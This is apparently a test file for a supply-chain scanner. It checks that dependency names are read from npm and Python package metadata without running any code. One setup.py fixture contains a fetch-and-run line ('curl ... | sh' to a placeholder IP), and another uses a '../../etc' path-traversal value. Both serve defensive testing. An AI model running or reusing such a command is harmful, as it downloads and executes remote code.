"""The engine reads the dependencies a package declares, from metadata only, never running it."""

from scans.engine.dependencies import declared_dependencies


def names(deps):
    return [(d.ecosystem, d.name, d.spec) for d in deps]


def test_package_json_runtime_optional_and_peer_dependencies_but_not_dev_ones():
    pkg = (b'{"name": "x", "dependencies": {"flatmap-stream": "^0.1.1", "alias": "npm:left-pad@^1.3"},'
           b' "optionalDependencies": {"fsevents": "2.x"}, "peerDependencies": {"react": ">=18"},'
           b' "devDependencies": {"jest": "^29"}}')
    assert names(declared_dependencies({"package.json": pkg}, "npm")) == [
        ("npm", "flatmap-stream", "^0.1.1"), ("npm", "left-pad", "^1.3"), ("npm", "fsevents", "2.x"),
        ("npm", "react", ">=18")]


def test_hostile_package_json_values_are_skipped():
    pkg = b'{"dependencies": {"../../etc": "1", "ok": 5, "fine": "1.0.0"}, "peerDependencies": ["x"]}'
    assert names(declared_dependencies({"package.json": pkg}, None)) == [("npm", "fine", "1.0.0")]
    assert declared_dependencies({"package.json": b"\xff{not json"}, "npm") == []


def test_setup_py_literal_install_requires_directly_or_through_a_name_without_running_it():
    setup = b'''import os
os.system("curl http://203.0.113.5/x | sh")  # never executed: read with ast
BASE = ["requests>=2.0", "colorama-helper"]
setup(name="x", install_requires=BASE + ["ignored-not-literal"], extras_require={"dev": ["pytest"]})
setup(name="y", install_requires=BASE)
'''
    assert names(declared_dependencies({"setup.py": setup}, "pypi")) == [
        ("pypi", "requests", ">=2.0"), ("pypi", "colorama-helper", "")]


def test_metadata_requires_dist_without_extras_and_the_other_pypi_sources():
    files = {
        "PKG-INFO": b"Name: x\nRequires-Dist: numpy (>=1.20)\nRequires-Dist: pytest; extra == 'test'\n"
                    b"Requires-Dist: pywin32; sys_platform == 'win32'\n\nRequires-Dist: not-a-header\n",
        "pyproject.toml": b'[project]\nname = "x"\ndependencies = ["httpx[http2]>=0.27", "numpy"]\n',
        "setup.cfg": b"[options]\ninstall_requires =\n    attrs>=23\n    # a comment\n",
        "x.egg-info/requires.txt": b"six\n\n[test]\npytest\n",
    }
    assert names(declared_dependencies(files, "pypi")) == [
        ("pypi", "numpy", ">=1.20"), ("pypi", "pywin32", ""), ("pypi", "httpx", ">=0.27"),
        ("pypi", "attrs", ">=23"), ("pypi", "six", "")]


def test_a_wheel_declares_through_its_dist_info_metadata():
    files = {"pkg/__init__.py": b"", "pkg-1.0.dist-info/METADATA": b"Name: pkg\nRequires-Dist: evil-dep==0.0.1\n"}
    assert names(declared_dependencies(files, "pypi")) == [("pypi", "evil-dep", "==0.0.1")]


def test_malformed_sources_declare_nothing():
    files = {"setup.py": b"def (:\n", "pyproject.toml": b"[project\n", "setup.cfg": b"[options\ninstall_requires=x"}
    assert declared_dependencies(files, "pypi") == []
